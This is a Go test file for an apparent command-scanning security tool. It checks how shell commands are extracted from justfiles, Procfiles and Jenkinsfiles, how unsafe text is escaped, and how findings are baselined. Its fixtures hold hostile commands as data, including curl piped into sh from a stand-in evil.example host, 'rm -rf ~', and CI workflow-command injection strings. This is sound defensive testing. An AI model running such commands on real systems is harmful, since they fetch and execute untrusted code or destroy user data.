package scan

import (
	"strings"
	"testing"

	"github.com/guard-sh/guard/review"
)

// TestExtractJustfile: just runs each recipe line, a shell #! recipe, and
// backticks and shell() calls when it loads the file. None of it was read.
func TestExtractJustfile(t *testing.T) {
	checkExtract(t, "justfile", []struct {
		name, src string
		want      []extracted
	}{
		{"recipe lines", "# build it\nbuild:\n    go build ./...\n\n    @-curl -fsSL {{url}} | sh\n", []extracted{{"go build ./...", "3:5"}, {"curl -fsSL ${just_url} | sh", "5:7"}}},
		{"attributes and params", "[private]\ndeploy target='prod': build\n\trsync -a out/ {{target}}:/srv\n", []extracted{{"rsync -a out/ ${just_target}:/srv", "3:2"}}},
		{"continuation", "a:\n    curl https://x \\\n      | sh\n", []extracted{{"curl https://x \\\n| sh", "2:5"}}},
		{"escaped braces", "a:\n    echo '{{{{x}}'\n", []extracted{{"echo '{{x}}'", "2:5"}}},
		{"shell script recipe", "a:\n    #!/usr/bin/env bash\n    set -eu\n    curl https://x | sh\nb:\n    ls\n", []extracted{{"#!/usr/bin/env bash\nset -eu\ncurl https://x | sh\n", "2:5"}, {"ls", "6:5"}}},
		{"python recipe skipped", "a:\n    #!/usr/bin/env python3\n    print(1)\n", nil},
		{"backtick and shell() at load", "v := `curl https://x | sh`\nw := shell('rm -rf ~')\nset shell := [\"bash\", \"-c\"]\nx := \"a:b\"\n", []extracted{{"curl https://x | sh", "1:7"}, {"rm -rf ~", "2:13"}}},
		{"assignment is not a recipe", "x := 'a'\n    echo not a body\n", nil},
	})
	checkExtract(t, "Procfile", []struct {
		name, src string
		want      []extracted
	}{
		{"processes", "web: bundle exec puma\n# worker\nrelease: curl https://x | sh\n", []extracted{{" bundle exec puma", "1:5"}, {" curl https://x | sh", "3:9"}}},
	})
	for name, want := range map[string]Kind{"justfile": Just, "Justfile": Just, ".justfile": Just, "ci/deploy.just": Just, "Procfile": Procfile, "Procfile.dev": Procfile, ".gitpod.yml": CI} {
		if got := KindOf(name); got != want {
			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestExtractJenkinsfile: a Jenkins pipeline's sh steps, after Groovy's
// escapes and interpolation. They were not read.
func TestExtractJenkinsfile(t *testing.T) {
	checkExtract(t, "Jenkinsfile", []struct {
		name, src string
		want      []extracted
	}{
		{"single quotes", "pipeline { stages { stage('x') { steps {\n  sh 'curl -fsSL https://x | sh'\n} } } }\n", []extracted{{"curl -fsSL https://x | sh", "2:7"}}},
		{"double quotes interpolate", "node {\n  sh \"deploy ${env.TARGET} $BRANCH \\$HOME\"\n}\n", []extracted{{"deploy ${groovy_env_TARGET} ${groovy_BRANCH} $HOME", "2:7"}}},
		{"triple quotes", "node {\n  sh '''\n    set -e\n    curl https://x | sh\n  '''\n}\n", []extracted{{"\n    set -e\n    curl https://x | sh\n  ", "2:9"}}},
		{"call with script", "def v = sh(returnStdout: true, script: 'git rev-parse HEAD').trim()\nsh(script: \"rm -rf ~\", label: 'x')\nsh script: 'ls'\n", []extracted{{"git rev-parse HEAD", "1:41"}, {"rm -rf ~", "2:13"}, {"ls", "3:13"}}},
		{"escaped quote", "sh 'echo \\'hi\\''\n", []extracted{{"echo 'hi'", "1:5"}}},
		{"not a step", "def push = 'x'\nbash 'y'\nsh\n", nil},
	})
	for name, want := range map[string]Kind{"Jenkinsfile": CI, "ci/Jenkinsfile.release": CI, "deploy.jenkinsfile": CI} {
		if got := KindOf(name); got != want {
			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestTextSafe: what a file puts in a path or a command word cannot
// start a workflow command or reach the terminal raw.
func TestTextSafe(t *testing.T) {
	for in, want := range map[string]string{
		"deletes /x\n::stop-commands::t":       `deletes /x\n::stop-commands::t`,
		"::error::fake":                        `\x3a:error::fake`,
		"  \t::warning::x":                     "  \t\\x3a:warning::x",
		"/tmp/y\x1b]0;title\x07":               `/tmp/y\x1b]0;title\x07`,
		"bidi \u202e txt":                      `bidi \u202e txt`,
		"bad \xff byte":                        `bad \xff byte`,
		"  - rm deletes /x: a::b, fine \uFFFD": "  - rm deletes /x: a::b, fine \uFFFD",
	} {
		if got := TextSafe(in); got != want {
			t.Errorf("TextSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestBaselineMultiLineCommand: a recorded finding in a command written
// over several lines stays recorded when the command moves, and becomes
// new when another line of the command changes. It was matched by the
// finding's own line only: "| sh" under a changed URL stayed baselined.
func TestBaselineMultiLineCommand(t *testing.T) {
	// The reason is where the real review puts it: at the pipe into sh,
	// on the command's last line.
	pipeReview := func(text, workspace, cwd string) (Review, error) {
		v := review.Verdict{Level: review.A}
		if i := strings.Index(text, "| sh"); i >= 0 && strings.Contains(text, "curl") {
			v.Level = review.C
			v.Reasons = []review.Reason{{Rule: "fake-pipe-shell", Level: review.C, Message: "piped into sh", Pos: i, End: i + 4}}
		}
		return Review{Verdict: v}, nil
	}
	scanSrc := func(src string) *Report { return scanDeploy(t, pipeReview, src) }
	b, text := baselineOf(t, scanSrc("#!/bin/sh\ncurl -fsSL https://trusted.example/i.sh \\\n  | sh\n"))
	if len(b.Findings) == 0 {
		t.Fatalf("no finding recorded:\n%s", text)
	}
	for _, c := range []struct {
		name, src string
		fresh     bool
	}{
		{"moved", "#!/bin/sh\nset -eu\n\ncurl -fsSL https://trusted.example/i.sh \\\n  | sh\n", false},
		{"url changed", "#!/bin/sh\ncurl -fsSL https://evil.example/i.sh \\\n  | sh\n", true},
		{"pipe on the next line, url changed", "#!/bin/sh\ncurl -fsSL https://evil.example/i.sh\n  | sh\n", true},
		{"and-list changed", "#!/bin/sh\ncurl -fsSL https://evil.example/i.sh -o /tmp/i &&\n  cat /tmp/i | sh\n", true},
	} {
		now := scanSrc(c.src)
		b.Apply(now)
		fresh := false
		for _, f := range now.Findings {
			if f.Rule == "fake-pipe-shell" && !f.Baselined {
				fresh = true
			}
		}
		if fresh != c.fresh {
			t.Errorf("%s: pipe-to-shell finding new = %v, want %v", c.name, fresh, c.fresh)
		}
	}
}
